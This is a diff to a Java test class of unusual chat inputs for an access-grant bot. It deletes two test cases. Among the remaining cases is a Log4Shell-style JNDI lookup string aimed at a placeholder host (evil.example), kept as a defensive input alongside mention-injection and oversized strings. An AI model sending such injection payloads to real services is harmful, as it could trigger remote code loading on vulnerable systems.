@@ -30,7 +30,6 @@ final class SillyInputs {
     private static List<Input> commands() {
         return List.of(
                 new Input("grnat pull payments/api sales", "Did you mean this?"),
-                new Input("", "Ask here for access"),
                 new Input("please", "The commands are grant, revoke"),
                 new Input("<!channel>", "“@channel”"),
                 new Input("<@U0APPROVER1|amir> approve this", "@amir"),
@@ -39,7 +38,6 @@ final class SillyInputs {
                 new Input("${jndi:ldap://evil.example/a}", "The commands are"),
                 new Input("z".repeat(5_000), "has 5000 characters"),
                 new Input("z".repeat(3_999), "“" + "z".repeat(60) + "…”"),
-                new Input("grant", "The access"),
                 new Input("grant because I want to", "The access"),
                 new Input("grant pull", "The repository is missing"),
                 new Input("grant pull payments/api", "The account"),
